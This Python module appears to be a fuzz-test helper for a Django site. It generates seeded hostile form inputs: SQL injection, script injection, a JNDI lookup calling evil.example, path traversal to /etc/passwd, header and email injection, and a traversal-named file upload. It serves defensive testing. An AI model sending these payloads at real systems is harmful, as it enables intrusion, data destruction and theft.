"""Values, fields and addresses that nobody of good will sends; the same ones in every run."""

import random
from collections.abc import Iterator

from django.core.files.uploadedfile import SimpleUploadedFile

SEED = 20261123
VALUES = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "9" * 1_000_000,
    "-" + "9" * 400,
    "1e400",
    "NaN",
    "-0",
    "0x10",
    "__class__",
    "a__b",
    "subject__account__password",
    "..",
    "../../../../etc/passwd",
    ".",
    "a.b.c",
    "'; DROP TABLE members_datasubject; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{ 7|add:7 }}{% load i18n %}",
    "%s%s%(x)s%n",
    "${jndi:ldap://evil.example/a}",
    "\r\nSet-Cookie: a=b",
    "\r\nBcc: all@evil.example",
    "\x07\x1b[31m\x7f",
    "\u202e\u200b\ufeff",
    "\U0001f600" * 300,
    "\ud7ff\ue000",
    "i\u0307\u0131\u212a",
    "가" * 5_000,
    "true",
    "null",
    "[]",
    '{"a": {"b": []}}',
    "//evil.example",
    "https://evil.example/",
    "2026-02-30",
    "9999-12-31T25:61:61Z",
    "mimi@mail.example\nx@evil.example",
    "=HYPERLINK(1)",
]
NAMES = [
    "a__b",
    "_connector",
    "__proto__",
    "items[]",
    "a.b",
    "\x00",
    "switch_language",
    "way",
    "x" * 5_000,
]
BROKEN_BODIES = [
    (b"\xff\xfe\x00%zz=&&&=", "application/x-www-form-urlencoded"),
    (b"a=%ff%fe%00&identifier=%c3%28", "application/x-www-form-urlencoded; charset=utf-8"),
    (b"identifier=x", "application/x-www-form-urlencoded; charset=no-such-charset"),
    (b"--x\r\nContent-Disposition: form-data", "multipart/form-data; boundary=x"),
    (b"anything", "multipart/form-data"),
    (b'{"identifier": 1}', "application/json"),
    (b"\x00" * 1_000, ""),
    (b"<a/>", "text/xml"),
]


def chance() -> random.Random:
    """Return the source of chance of one run."""
    return random.Random(SEED)


def forms(names: list[str], how_many: int) -> Iterator[dict[str, object]]:
    """Yield filled forms over the real fields of a page and some that it does not have."""
    by = chance()
    for _ in range(how_many):
        chosen = by.sample(names, k=min(len(names), by.randint(1, 4))) + by.sample(NAMES, k=2)
        yield {name: _value(by) for name in chosen}


def _value(by: random.Random) -> object:
    kind = by.random()
    if kind < 0.08:
        return SimpleUploadedFile("../x\x00.html", b"<script>", content_type="text/html")
    if kind < 0.2:
        return [by.choice(VALUES), by.choice(VALUES)]
    return by.choice(VALUES)
